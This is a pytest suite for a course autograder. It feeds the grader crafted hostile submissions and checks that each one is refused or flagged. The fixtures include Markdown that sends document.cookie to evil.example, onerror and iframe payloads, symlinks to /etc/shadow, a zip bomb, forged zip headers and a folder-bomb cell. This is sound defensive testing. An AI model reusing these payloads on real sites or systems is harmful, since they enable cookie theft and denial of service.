"""Every kind of bad submission, beside honest learners, through the whole pipeline twice.

One temporary course (module-scoped) releases ``ch02_attention`` and receives a class from
three sources at once, each with honest learners in it: a folder of learner folders, an LMS
zip and an nbgrader exchange. The class holds what breaks collecting (links, pipes, notebook
folders, damaged or crafted zip members, colliding ids, lying times), what breaks grading
(old formats, deep or odd JSON, odd metadata, points claimed by learner cells, huge
expressions, folder bombs) and what breaks the reports (hostile HTML, false audit matches,
inflated points, repeated cell ids). collect, ``autograde --jobs 2``, feedback and export run,
then all of it again (grading again the learners whose notebooks it must normalise): every bad
learner ends with a specific flag or a ``REFUSED`` line, every honest learner keeps full marks,
no original changes, and the second run's CSV, flag files, autograded notebooks and feedback
pages are byte-identical to the first's.

Grading itself (``autograde``) is a black box here: each odd file is judged by its outcome.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import re
import shutil
import stat
import struct
import tempfile
import zipfile
from pathlib import Path

import nbformat
import pytest

from autograder.cli import main
from autograder.copies.pairs import CODES as COPY_FLAGS
from autograder.course import COURSE_ID, ROOT, Course
from autograder.flags import Flag, read_flags
from autograder.grade.gradebook import open_gradebook, read_scores
from autograder.notebook import stable_cell_ids
from autograder.steps.release import generate

CH = "ch02_attention"
AUTO_POINTS = 7
# Generous times: no learner here hangs, and an outcome must never depend on the machine's
# speed (IPython takes seconds to read the cell of 800,000 characters).
LIMIT_ARGS = ["--cell-timeout", "60", "--notebook-timeout", "180", "--memory-mb", "2048",
              "--max-processes", "64", "--max-output-bytes", "200000"]
STAMP = "2024-05-01 08:00:00.000000 UTC"
# The second run grades again only the learners whose notebooks grading must normalise (cell
# ids invented or repeated, an old format, points claimed): what could differ between runs.
# Grading every learner twice cost minutes and proved no more.
REGRADED = ("old_format", "repeated_ids", "nbformat3", "claims_points")
COMMENT = "# I checked my solutions against the worked examples\n"

pytestmark = [pytest.mark.slow]


# ------------------------------------------------------------------ notebooks of the class


def answered(root: Path) -> nbformat.NotebookNode:
    """The release with the source's solutions pasted in and its demo cells left out: an
    honest learner's work, graded like the full notebook in a fraction of the time."""
    nb = nbformat.read(root / "notebooks" / CH / f"{CH}.ipynb", as_version=4)
    solutions = {c.metadata["nbgrader"]["grade_id"]: c.source
                 for c in nbformat.read(root / "solutions" / CH / f"{CH}.ipynb", 4).cells
                 if c.metadata.get("nbgrader", {}).get("solution")}
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in solutions:
            cell.source = solutions[grade_id]
    plain = [c for c in nb.cells if c.cell_type == "code" and "nbgrader" not in c.metadata]
    nb.cells = [c for c in nb.cells if c not in plain[1:]]
    return nb


def copy_of(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    return nbformat.from_dict(json.loads(json.dumps(nb)))


def cell_with(nb, grade_id: str):
    return next(c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get(
        "grade_id") == grade_id)


def with_cell(honest, source: str, kind: str = "code", at: int = 1) -> nbformat.NotebookNode:
    nb = copy_of(honest)
    new = (nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell)
    nb.cells.insert(at, new(source, id=f"extra-{kind}"))
    return nb


HOSTILE_MARKDOWN = (
    "My notes <script>fetch('https://evil.example/?c=' + document.cookie)</script>\n\n"
    "<img src=x onerror=\"fetch('https://evil.example/onerror')\">\n\n"
    "![tracker](https://evil.example/pixel.png)\n\n"
    "<iframe src=\"https://evil.example/frame\"></iframe>\n\n"
    "<p style=\"background: url(https://evil.example/bg.png)\">styled</p>\n")


def graded_learners(honest: nbformat.NotebookNode) -> dict[str, bytes]:
    """Folder learners whose notebooks reach grading: name -> notebook bytes."""
    def text(nb) -> bytes:
        return nbformat.writes(nb).encode()

    commented = copy_of(honest)
    cell_with(commented, "ch02_softmax_solution").source = (
        COMMENT + cell_with(commented, "ch02_softmax_solution").source)

    inflated = copy_of(honest)
    question = cell_with(inflated, "ch02_question_scaling")
    question.cell_type, question.source = "code", "print('free points')"
    question.outputs, question.execution_count = [], None
    question.metadata["nbgrader"].update(grade=True, solution=False, points=50)

    claims = copy_of(honest)
    cell_with(claims, "ch02_softmax_solution").metadata["nbgrader"].update(grade=True,
                                                                            points=50)

    null_meta = json.loads(nbformat.writes(honest))
    next(c for c in null_meta["cells"] if c["cell_type"] == "markdown")["metadata"][
        "nbgrader"] = None

    surrogate = nbformat.writes(with_cell(honest, "note = 'SURROGATE'")).replace(
        "SURROGATE", "\\ud800")

    deep = json.loads(nbformat.writes(honest))
    deep["metadata"]["deep"] = "DEEP"
    deep_text = json.dumps(deep).replace('"DEEP"', "[" * 100_000 + "]" * 100_000)

    v3 = nbformat.writes(nbformat.convert(copy_of(honest), 3))

    # Format 4.4 (ids absent; nbformat invents them) with two added cells sharing an id.
    old_format = json.loads(nbformat.writes(with_cell(honest, "x = 1")))
    old_format["nbformat_minor"] = 4
    for cell in old_format["cells"]:
        cell.pop("id", None)
    repeated = json.loads(nbformat.writes(with_cell(with_cell(honest, "a = 1"), "b = 2")))
    for cell in repeated["cells"][1:3]:
        cell["id"] = "same-id"

    return {
        "honest_folder": text(honest),
        "chloe\u0308": text(honest),  # a decomposed name, as macOS writes it: the same learner
        "commented": text(commented),
        "xss": text(with_cell(honest, HOSTILE_MARKDOWN, kind="markdown")),
        "inflated": text(inflated),
        "claims_points": text(claims),
        "null_metadata": json.dumps(null_meta).encode(),
        "lone_surrogate": surrogate.encode(),
        "deep_json": deep_text.encode(),
        "nbformat3": v3.encode(),
        # 800,000 characters in one cell (a long operator chain, which the kernel takes until
        # the cell's timeout to refuse, is test_bad_notebooks' with a short timeout).
        "huge_cell": text(with_cell(honest, "x = '" + "a" * 799_994 + "'")),
        "folder_bomb": text(with_cell(honest, (
            "import os\nstart = os.getcwd()\nfor _ in range(3000):\n"
            "    os.mkdir('d')\n    os.chdir('d')\nos.chdir(start)"))),
        "old_format": json.dumps(old_format).encode(),
        "repeated_ids": json.dumps(repeated).encode(),
    }


# ------------------------------------------------------------------ the three sources


def write(path: Path, data: bytes, mtime: float | None = None) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    if mtime is not None:
        os.utime(path, (mtime, mtime))


def build_folder(inbox: Path, honest: bytes, learners: dict[str, bytes], secret: Path,
                 elsewhere: Path) -> None:
    for student, data in learners.items():
        write(inbox / student / CH / f"{CH}.ipynb", data)
    write(inbox / "Casey" / f"{CH}.ipynb", honest)
    write(inbox / "casey" / CH / f"{CH}.ipynb", honest)
    write(inbox / "has space" / f"{CH}.ipynb", honest)
    (inbox / "to_source" / CH).mkdir(parents=True)
    (inbox / "to_source" / CH / f"{CH}.ipynb").symlink_to(secret)
    (inbox / "to_shadow").mkdir()
    (inbox / "to_shadow" / f"{CH}.ipynb").symlink_to("/etc/shadow")
    (inbox / "piper" / CH).mkdir(parents=True)
    os.mkfifo(inbox / "piper" / CH / f"{CH}.ipynb")
    (inbox / "x.ipynb").mkdir()
    (inbox / "notebook_folder" / f"{CH}.ipynb").mkdir(parents=True)
    write(elsewhere / CH / f"{CH}.ipynb", honest)
    (inbox / "linked_learner").symlink_to(elsewhere)
    (inbox / "linked_chapter").mkdir()
    (inbox / "linked_chapter" / CH).symlink_to(elsewhere / CH)
    # A learner-written time is ignored: the file's own time counts.
    (inbox / "honest_folder" / CH / "timestamp.txt").write_text("2000-01-01 00:00:00 UTC")
    hard_link_from_a_peer(inbox, honest)


# Accounts of two learners on a class server, which no system names (root gives them files).
OWNER_UID, PEER_UID = 424_201, 424_202
SEPARATE_ACCOUNTS = os.geteuid() == 0


def hard_link_from_a_peer(inbox: Path, honest: bytes) -> None:
    """``link_owner``'s notebook, and a hard link to it in ``link_peer``'s folder. As root, each
    learner owns their folder, as on a class server, and the owner's file is theirs; otherwise
    one account owns everything, as in an inbox that the instructor filled."""
    notebook = inbox / "link_owner" / CH / f"{CH}.ipynb"
    write(notebook, honest)
    (inbox / "link_peer" / CH).mkdir(parents=True)
    os.link(notebook, inbox / "link_peer" / CH / f"{CH}.ipynb")
    if SEPARATE_ACCOUNTS:
        for path in (notebook, notebook.parent, notebook.parent.parent):
            os.chown(path, OWNER_UID, OWNER_UID)
        for path in (inbox / "link_peer" / CH, inbox / "link_peer"):
            os.chown(path, PEER_UID, PEER_UID)


def header_offsets(raw: bytearray, name: bytes) -> tuple[int, int]:
    """Offsets of the local header and central directory entry of the member ``name``."""
    local = raw.index(name) - 30
    central = raw.index(name, local + 31) - 46
    assert raw[local:local + 4] == b"PK\x03\x04" and raw[central:central + 4] == b"PK\x01\x02"
    return local, central


def build_zip(archive: Path, honest: bytes) -> None:
    """An LMS zip: two honest members and one of each kind of damaged or crafted member.
    Header fields are edited in both headers of a member (zip APPNOTE 4.3.7, 4.3.12)."""
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        # "Noe\u0308l": a decomposed name, as macOS writes it, for the learner noël.
        for name in ("Zipped", "crc", "encrypted", "deflate64", "liar", "stream", "Noe\u0308l"):
            zf.writestr(f"{name}_{CH}.ipynb", honest)
        zf.writestr(f"bomb_{CH}.ipynb", b" " * (60 * 2**20))  # 60 MB, a few kB packed
        link = zipfile.ZipInfo(f"link_{CH}.ipynb")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, "/etc/shadow")
    raw = bytearray(archive.read_bytes())

    def edit(member: str, local_at: int, central_at: int, change) -> None:
        local, central = header_offsets(raw, f"{member}_{CH}.ipynb".encode())
        for at in (local + local_at, central + central_at):
            change(at)

    edit("crc", 14, 16, lambda at: raw.__setitem__(at, raw[at] ^ 0xFF))
    edit("encrypted", 6, 8, lambda at: raw.__setitem__(at, raw[at] | 0x1))
    edit("deflate64", 8, 10, lambda at: struct.pack_into("<H", raw, at, 9))
    edit("liar", 22, 24, lambda at: struct.pack_into("<I", raw, at, 99))
    # A deflate stream whose first block has the reserved type 3 (RFC 1951, 3.2.3).
    stream = f"stream_{CH}.ipynb".encode()
    raw[header_offsets(raw, stream)[0] + 30 + len(stream)] |= 0b111
    archive.write_bytes(bytes(raw))


def build_exchange(exchange: Path, honest: bytes, wrong: bytes, secret: Path) -> None:
    inbound = exchange / COURSE_ID / "inbound"

    def submission(student: str, stamp: str = STAMP) -> Path:
        folder = inbound / f"{student}+{CH}+{stamp}+r{len(list(inbound.glob('*')))}"
        folder.mkdir(parents=True)
        return folder

    inbound.mkdir(parents=True)
    # Three submissions: the newest is honest; the older ones claim a later time inside.
    for stamp, data in [("2024-05-01 07:00:00.000000 UTC", wrong),
                        ("2024-05-01 07:30:00.000000 UTC", wrong), (STAMP, honest)]:
        folder = submission("exchanged", stamp)
        write(folder / f"{CH}.ipynb", data)
        (folder / "timestamp.txt").write_text("2030-01-01 00:00:00.000000 UTC" if data == wrong
                                              else "2000-01-01 00:00:00.000000 UTC")
    os.mkfifo(submission("ex_piper") / f"{CH}.ipynb")
    (submission("ex_linker") / f"{CH}.ipynb").symlink_to(secret)


# ------------------------------------------------------------------ running the pipeline


def tree_state(folder: Path) -> dict[str, str]:
    """Hashes of regular files, targets of links, kinds of special files (never opened)."""
    out = {}
    for dirpath, dirs, files in os.walk(folder):
        for name in files + [d for d in dirs if os.path.islink(os.path.join(dirpath, d))]:
            path = os.path.join(dirpath, name)
            mode = os.lstat(path).st_mode
            key = os.path.relpath(path, folder)
            if stat.S_ISLNK(mode):
                out[key] = "-> " + os.readlink(path)
            elif stat.S_ISREG(mode):
                out[key] = hashlib.sha256(Path(path).read_bytes()).hexdigest()
            else:
                out[key] = stat.filemode(mode)
    return out


def command(args: list[str]) -> tuple[int, str, str]:
    """Run ``python -m autograder ARGS`` in this process: exit status, stdout, stderr."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main(args)
    return status, out.getvalue(), err.getvalue()


def run_pipeline(sources: list[str], where: list[str], students: tuple[str, ...] = ()) -> dict:
    """collect, autograde --jobs 2 and feedback (every learner, or only ``students``), export;
    what they printed and left."""
    status, collected, _ = command(["collect", *sources, *where])
    assert status == 0
    only = [arg for student in students for arg in ("--student", student)]
    status, graded, graded_err = command(["autograde", "ch02", "--jobs", "2", *LIMIT_ARGS,
                                          *only, *where])
    assert status == 0
    feedback_status, feedback_out, feedback_err = command(["feedback", "ch02", *only, *where])
    status, exported, _ = command(["export", "-o", "-", *where])
    assert status == 0
    return {"collect": collected, "autograde": graded, "autograde_err": graded_err,
            "feedback_status": feedback_status, "feedback": feedback_out + feedback_err,
            "csv": exported}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict:
    """The class, collected, graded, given feedback and exported twice."""
    base = tmp_path_factory.mktemp("hostile")
    root, course = base / "root", base / "root" / "course"
    shutil.copytree(ROOT / "solutions" / CH, root / "solutions" / CH)
    generate(Course.of(root, course), [CH])
    secret = root / "solutions" / CH / f"{CH}.ipynb"
    honest_nb = answered(root)
    honest = nbformat.writes(honest_nb).encode()
    wrong_nb = copy_of(honest_nb)
    cell_with(wrong_nb, "ch02_softmax_solution").source = "def softmax(x, axis=-1):\n    return x"
    inbox, archive, exchange = base / "inbox", base / "lms.zip", base / "exchange"
    build_folder(inbox, honest, graded_learners(honest_nb), secret, base / "elsewhere")
    build_zip(archive, honest)
    build_exchange(exchange, honest, nbformat.writes(wrong_nb).encode(), secret)
    originals = {"inbox": tree_state(inbox), "exchange": tree_state(exchange),
                 "solutions": tree_state(root / "solutions"),
                 "zip": hashlib.sha256(archive.read_bytes()).hexdigest()}
    where = ["--root", str(root), "--course-dir", str(course)]
    sources = [str(inbox), str(archive), "--exchange", str(exchange), "--chapter", "ch02"]
    # The grader's temporary folders go to a folder of this class, to see that none is left.
    scratch = base / "tmp"
    scratch.mkdir()
    saved, tempfile.tempdir = tempfile.tempdir, str(scratch)
    runs = []
    try:
        for students in ((), REGRADED):
            run = run_pipeline(sources, where, students)
            run["flag_files"] = tree_state(course / "flags")
            run["feedback_pages"] = tree_state(course / "feedback")
            run["autograded"] = tree_state(course / "autograded")
            runs.append(run)
    finally:
        tempfile.tempdir = saved
    return {"root": root, "course": course, "inbox": inbox, "archive": archive,
            "exchange": exchange, "originals": originals, "runs": runs, "where": where,
            "secret": secret, "leftovers": sorted(p.name for p in scratch.iterdir())}



# ------------------------------------------------------------------ what must hold


def first(hostile) -> dict:
    return hostile["runs"][0]


def csv_rows(run: dict) -> dict[str, dict[str, str]]:
    return {r["student"]: r for r in csv.DictReader(io.StringIO(run["csv"]))}


def flags_of(hostile, student: str) -> list[Flag]:
    return read_flags(Course.of(hostile["root"], hostile["course"]), student, CH)


def codes(hostile, student: str) -> set[str]:
    return {f.code for f in flags_of(hostile, student)}


def auto_score(hostile, student: str) -> float:
    row = csv_rows(first(hostile))[student]
    assert row["auto_max"] == str(AUTO_POINTS), row
    return float(row["auto_score"])


# Honest work, whatever else the notebook holds (extra cells, old formats, odd names).
HONEST = ("honest_folder", "chloë", "zipped", "noël", "link_owner", "exchanged", "xss",
          "old_format", "repeated_ids", "inflated", "huge_cell", "folder_bomb", "commented")

# origin (its end) -> what the refusal must say.
REFUSED = {
    "inbox/has space": "contains ' ' (U+0020 SPACE) at position 4",
    f"inbox/linked_chapter/{CH}": "is a symbolic link to",
    "inbox/linked_learner": "is a symbolic link to",
    f"inbox/notebook_folder/{CH}.ipynb": "a folder named like a notebook",
    f"inbox/piper/{CH}/{CH}.ipynb": "a named pipe (FIFO)",
    f"inbox/to_shadow/{CH}.ipynb": "a symbolic link to '/etc/shadow'",
    f"inbox/to_source/{CH}/{CH}.ipynb": f"solutions/{CH}/{CH}.ipynb'",
    "inbox/x.ipynb": "a folder named like a notebook",
    f"lms.zip:crc_{CH}.ipynb": "corrupt inside the zip (Bad CRC-32",
    f"lms.zip:encrypted_{CH}.ipynb": "encrypted (password-protected)",
    f"lms.zip:deflate64_{CH}.ipynb": "compressed with Deflate64",
    f"lms.zip:liar_{CH}.ipynb": "corrupt inside the zip",
    f"lms.zip:bomb_{CH}.ipynb": "60.0 MB uncompressed, larger than the limit of 50 MB",
    f"lms.zip:link_{CH}.ipynb": "a symbolic link inside the zip",
    f"lms.zip:stream_{CH}.ipynb": "corrupt inside the zip (Error -3 while decompressing data",
    f"+r4/{CH}.ipynb": "is a symbolic link to",  # ex_linker, to the solutions
    f"+r3/{CH}.ipynb": "a named pipe (FIFO)",  # ex_piper
    f"inbox/Casey/{CH}.ipynb": "'Casey' and 'casey' are the same student id 'casey'",
    f"inbox/casey/{CH}/{CH}.ipynb": "'Casey' and 'casey' are the same student id 'casey'",
}
if SEPARATE_ACCOUNTS:  # the peer's name for the owner's file; else both keep it, flagged
    REFUSED[f"inbox/link_peer/{CH}/{CH}.ipynb"] = (
        f"the same file (a hard link) as {'{inbox}'}/link_owner/{CH}/{CH}.ipynb, which belongs "
        "there: its owner, user id 424201, owns that learner's folder")


def refusals(run: dict) -> dict[str, str]:
    found = re.findall(r"^REFUSED (.*?): (.*)$", run["collect"], re.M)
    return {origin: reason for origin, reason in found}


def test_collect_refuses_each_bad_entry_with_its_reason_and_takes_the_rest(hostile):
    refused = refusals(first(hostile))
    for tail, reason in REFUSED.items():
        reason = reason.replace("{inbox}", str(hostile["inbox"]))
        matches = [r for origin, r in refused.items() if origin.endswith(tail)]
        assert len(matches) == 1 and reason in matches[0], (tail, matches)
    assert len(refused) == len(REFUSED), sorted(refused)
    taken = re.findall(rf"^  (\S+) +{CH} +\S+ \S+ UTC +new +(.*)$", first(hostile)["collect"],
                       re.M)
    assert sorted(s for s, _ in taken) == sorted(csv_rows(first(hostile)))
    assert {"chloë", "zipped", "noël", "exchanged", "link_owner"} <= {s for s, _ in taken}
    assert ("link_peer" in {s for s, _ in taken}) is not SEPARATE_ACCOUNTS


def test_every_honest_learner_keeps_full_marks(hostile):
    for student in HONEST:
        assert auto_score(hostile, student) == AUTO_POINTS, (student, codes(hostile, student))
    # They all hand in the course's solutions, which copy detection may report (its own tests
    # are in test_similarity.py); nothing else may be flagged.
    def other(student: str) -> set[str]:
        return codes(hostile, student) - set(COPY_FLAGS)

    assert other("honest_folder") == other("zipped") == set()
    assert other("chloë") == other("noël") == set()
    if SEPARATE_ACCOUNTS:
        assert other("link_owner") == set()
    else:  # nothing says whose the file is: both keep it, and a human is asked
        for student in ("link_owner", "link_peer"):
            assert other(student) == {"shared_file"}
    # "I checked my solutions against the worked examples" is a comment, not an import.
    assert other("commented") == set()
    # chloë and noël hand in the same answers, which in chapter 2 are no evidence: its short
    # answers are what every honest learner writes, its long one is what its text dictates.
    assert "similar_submissions" not in codes(hostile, "chloë")


def test_every_bad_learner_has_a_specific_flag(hostile):
    expected = {
        "exchanged": "duplicate_submission",   # three exchange submissions, newest kept
        "inflated": "cell_repointed",          # a question turned into a 50-point test
        "huge_cell": "audit:oversized",        # 800,000 characters: the audit says so, with size
        "xss": "cell_added",                   # hostile Markdown, sanitised in the feedback
        "old_format": "cell_added",
        "repeated_ids": "cell_added",
    }
    for student, code in expected.items():
        assert code in codes(hostile, student), (student, codes(hostile, student))
        assert "grading_error" not in codes(hostile, student)
    assert "800,000 characters" in next(f.reason for f in flags_of(hostile, "huge_cell")
                                        if f.code == "audit:oversized")
    duplicate = next(f for f in flags_of(hostile, "exchanged"))
    # Times from the exchange's folder names; the timestamp.txt files the learner wrote
    # (2000 and 2030) are not believed.
    assert "(2024-05-01 08:00:00)" in duplicate.reason and "2030" not in duplicate.reason


def test_the_table_and_the_csv_give_the_same_numbers(hostile):
    rows = csv_rows(first(hostile))
    table = first(hostile)["autograde"]
    for student, row in rows.items():
        line = re.search(rf"^{re.escape(student)} +{CH} +(\S+) +(.+?) +(\S+) +\d+s ", table,
                         re.M)
        assert line, (student, table)
        auto, total = line.group(1), line.group(3)
        assert auto == f"{row['auto_score']}/{row['auto_max']}", (student, line.group(0))
        assert total == f"{row['score']}/{row['max_score']}", (student, line.group(0))
        assert row["max_score"] == "11"  # 7 autograded + 4 by hand, whatever the learner did
    assert rows["honest_folder"]["manual_pending"] == "4"


def test_originals_are_unchanged_and_nothing_is_left_behind(hostile):
    originals = hostile["originals"]
    assert tree_state(hostile["inbox"]) == originals["inbox"]
    assert tree_state(hostile["exchange"]) == originals["exchange"]
    assert tree_state(hostile["root"] / "solutions") == originals["solutions"]
    assert hashlib.sha256(hostile["archive"].read_bytes()).hexdigest() == originals["zip"]
    # The kernel's copy of the course packages lives as long as the grading process (it is
    # removed when that exits); nothing of a learner may outlive its grading.
    assert [n for n in hostile["leftovers"] if not n.startswith("autograder-kernel-course-")
            ] == []


def test_a_second_run_is_byte_identical(hostile):
    one, two = hostile["runs"]
    assert two["csv"] == one["csv"]
    assert two["flag_files"] == one["flag_files"]
    assert two["feedback_pages"] == one["feedback_pages"]
    assert two["autograded"] == one["autograded"]
    assert sorted(set(REGRADED)) == sorted(re.findall(rf"^(\S+) +{CH} ", two["autograde"], re.M))
    assert "  new  " not in two["collect"] and two["collect"].count(" unchanged ") == len(
        csv_rows(one))


def test_feedback_pages_are_inert_and_one_failure_stops_no_one(hostile):
    feedback = hostile["course"] / "feedback"
    failed = re.findall(rf"^FAILED (\S+)/{CH}: (.*)$", first(hostile)["feedback"], re.M)
    for student, reason in failed:
        assert "feedback_failed" in codes(hostile, student) and "nbgrader" in reason
    pages = {p.parts[-3] for p in feedback.glob(f"*/{CH}/{CH}.html")}
    assert pages | {s for s, _ in failed} == set(csv_rows(first(hostile)))
    assert first(hostile)["feedback_status"] == (1 if failed else 0)
    html = (feedback / "xss" / CH / f"{CH}.html").read_text(encoding="utf-8")
    body = html.partition("</head>")[2]
    assert "My notes" in body and "styled" in body
    for needle in ("<script", "onerror", "<iframe", "url("):
        assert needle not in body.lower(), needle
    assert not re.search(r"""(src|href)=["']?https?://evil""", body)


def test_the_audit_of_the_class_reads_every_notebook(hostile):
    status, out, _ = command(["audit", "all", *hostile["where"]])
    assert status == 1
    rows = [line.split(None, 5) for line in out.splitlines()[1:-1]]
    by_student = {}
    for student, _, _, _, code, _ in rows:
        by_student.setdefault(student, set()).add(code)
    assert "oversized" in by_student["huge_cell"]
    assert "unreadable" in by_student["deep_json"]
    assert "commented" not in by_student and "honest_folder" not in by_student
    assert re.search(rf"finding\(s\) in {len(csv_rows(first(hostile)))} notebook\(s\)$",
                     out.strip())


def test_learners_are_named_in_the_gradebook(hostile):
    course = Course.of(hostile["root"], hostile["course"])
    with open_gradebook(course) as gradebook:
        names = {s.id: (s.last_name, s.first_name) for s in gradebook.students}
    assert names and all(names[s] == (s, "") for s in names)
    assert {s.student for s in read_scores(course)} == set(names)


def test_stable_cell_ids_are_derived_from_position_and_content():
    nb = {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": [
        {"cell_type": "code", "source": "x = 1", "metadata": {}, "outputs": [],
         "execution_count": None},
        {"cell_type": "markdown", "source": "text", "metadata": {}, "id": "keep-me"},
        {"cell_type": "markdown", "source": "text", "metadata": {}, "id": "keep-me"},
        {"cell_type": "markdown", "source": "bad id", "metadata": {}, "id": "no spaces!"}]}
    first_ids = [c["id"] for c in stable_cell_ids(json.loads(json.dumps(nb)))["cells"]]
    again = [c["id"] for c in stable_cell_ids(json.loads(json.dumps(nb)))["cells"]]
    assert first_ids == again and len(set(first_ids)) == 4 and first_ids[1] == "keep-me"
    read = nbformat.reads(json.dumps(stable_cell_ids(json.loads(json.dumps(nb)))), 4)
    assert [c.id for c in read.cells] == first_ids  # nbformat has nothing left to invent
    nbformat.validate(read)


# ------------------------------------------------------------------ odd files, graded
# Each test states the outcome grading owes these learners: their honest work scores, and the
# oddity costs at most its own cell, with a flag that names it.


def graded_honestly(hostile, student: str) -> None:
    assert "grading_error" not in codes(hostile, student), flags_of(hostile, student)
    assert auto_score(hostile, student) == AUTO_POINTS


def test_an_nbformat_3_notebook_is_upgraded_and_graded(hostile):
    graded_honestly(hostile, "nbformat3")


def test_json_nested_100000_deep_is_refused_with_its_depth(hostile):
    assert "grading_error" not in codes(hostile, "deep_json")
    reasons = " ".join(f.reason for f in flags_of(hostile, "deep_json"))
    assert re.search(r"deep|nest", reasons), reasons


def test_a_lone_surrogate_costs_only_its_cell(hostile):
    graded_honestly(hostile, "lone_surrogate")
    assert codes(hostile, "lone_surrogate")


def test_null_nbgrader_metadata_is_validated(hostile):
    graded_honestly(hostile, "null_metadata")
    assert codes(hostile, "null_metadata")


def test_a_solution_cell_cannot_claim_points(hostile):
    graded_honestly(hostile, "claims_points")
    assert codes(hostile, "claims_points") - {"feedback_failed"}
    assert (hostile["course"] / "feedback" / "claims_points" / CH / f"{CH}.html").is_file()
